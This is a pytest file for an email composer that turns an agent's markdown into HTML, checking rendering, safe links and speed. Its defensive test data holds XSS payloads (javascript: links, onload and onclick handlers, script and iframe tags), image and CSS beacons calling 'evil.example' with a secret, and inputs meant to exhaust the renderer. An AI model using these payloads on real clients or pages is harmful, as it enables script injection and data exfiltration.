"""The HTML half: what the agent meant, and nothing that acts by itself."""

from __future__ import annotations

import re
import threading
import time

import pytest

from cleo_email.mail import compose as module
from cleo_email.mail.compose import to_html


def body(text: str) -> str:
    found = re.search(r'<body dir="auto">\n(.*)\n</body>', to_html(text), re.DOTALL)
    assert found
    return found[1]


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("# T\n\n3. x\n4. y", '<h1>T</h1>\n<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>"),
        ("```py\na < b\n```", "<pre><code>a &lt; b\n</code></pre>"),
        ("AT&T <b>", "<p>AT&amp;T &lt;b&gt;</p>"),
        ("---", "<hr>"),
        ("", ""),
    ],
)
def test_markdown(text: str, html: str) -> None:
    assert body(text) == html


def test_tables_keep_their_alignment() -> None:
    html = body("|a|b|\n|-|-:|\n|1|2|")
    assert '<th align="right">b</th>' in html
    assert "<td>1</td>" in html
    assert "style=" not in html


@pytest.mark.parametrize(
    "link", ["https://example.org/x?a=1&b=2", "http://example.org", "mailto:a@example.org"]
)
def test_links(link: str) -> None:
    href = link.replace("&", "&amp;")
    assert f'<a href="{href}" rel="noopener noreferrer">t</a>' in body(f"[t]({link})")
    assert f'<a href="{href}"' in body(f"<{link}>")


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:x",
        "data:text/html,x",
        "//evil.example/x",
        "/path",
        "file:///etc",
        "cid:1",
    ],
)
def test_other_links_stay_text(link: str) -> None:
    html = body(f"[t]({link}) and ![i]({link})")
    assert "<a" not in html
    assert f"[t]({link})" in html


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?secret)",
        "![x][r]\n\n[r]: https://evil.example/?secret",
        "<img src=https://evil.example/?secret>",
        "<style>body{background:url(https://evil.example)}</style>",
        '<div style="background:url(https://evil.example)">x</div>',
        "<script>x</script>",
        '<a href="https://e.example" onclick="x">y</a>',
        "<iframe src=https://evil.example></iframe>",
        "<svg/onload=x>",
        '[a](https://e.example "t\\" onmouseover=\\"x")',
        '```"><img src=x>\nx\n```',
        "|a|\n|-|\n|<img src=x>|",
        "&lt;img src=x&gt;",
        "<https://e.example/><img/src=x>",
    ],
)
def test_nothing_loads_or_runs(text: str) -> None:
    html = body(text)
    tags = re.findall(r"<(/?[a-z0-9]+)((?:[^>\"]|\"[^\"]*\")*)>", html)
    assert {tag.strip("/") for tag, _ in tags} <= {
        "p",
        "a",
        "br",
        "code",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
    }
    for _, attributes in tags:
        assert set(re.findall(r'([a-z]+)="', re.sub(r'"[^"]*"', '"', attributes))) <= {
            "href",
            "rel",
            "title",
            "align",
        }


def test_pictures_become_links_and_lose_nothing() -> None:
    assert body("![Diagram](https://e.example/a.png)") == (
        '<p><a href="https://e.example/a.png" rel="noopener noreferrer">Diagram</a></p>'
    )
    assert ">https://e.example/a.png</a>" in body("![](https://e.example/a.png)")
    assert body("[![in](https://e.example/a.png)](https://e.example)").count("<a ") == 1


def test_our_own_styles_load_nothing() -> None:
    page = to_html("x")
    assert "url(" not in page
    assert "@import" not in page
    assert "http" not in page


HOSTILE = ["[" * 20_000, "> " * 20_000, "*a_ " * 20_000, "`" * 50_000, "![" * 20_000, "<" * 100_000]
HOSTILE += [
    "|a" * 20_000 + "\n" + "|-" * 20_000,
    "[a](" * 20_000,
    "&" * 100_000,
    "\\" * 100_000,
    "a\n" * 50_000,
]
HOSTILE += [
    "- " * 20_000,
    "x" * 3_000_000,
    "[a]: b\n" * 20_000,
    "*" * 100_000,
    "~~a" * 30_000,
    "\"'" * 50_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:4]))
def test_hostile_markdown_takes_seconds_at_most(text: str) -> None:
    began = time.process_time()
    to_html(text)
    assert time.process_time() - began < 10


def test_very_long_text_is_shown_as_it_is() -> None:
    assert "<pre>&lt;b&gt;*x" in to_html("<b>*x" * 50_000)


def test_first_use_from_many_threads() -> None:
    module._renderer.cache_clear()
    results: list[str] = []
    text = "|a|\n|-|\n|~~*x*~~ ![i](https://e.example)|"
    threads = [threading.Thread(target=lambda: results.append(to_html(text))) for _ in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert set(results) == {to_html(text)}
    assert len(results) == 16
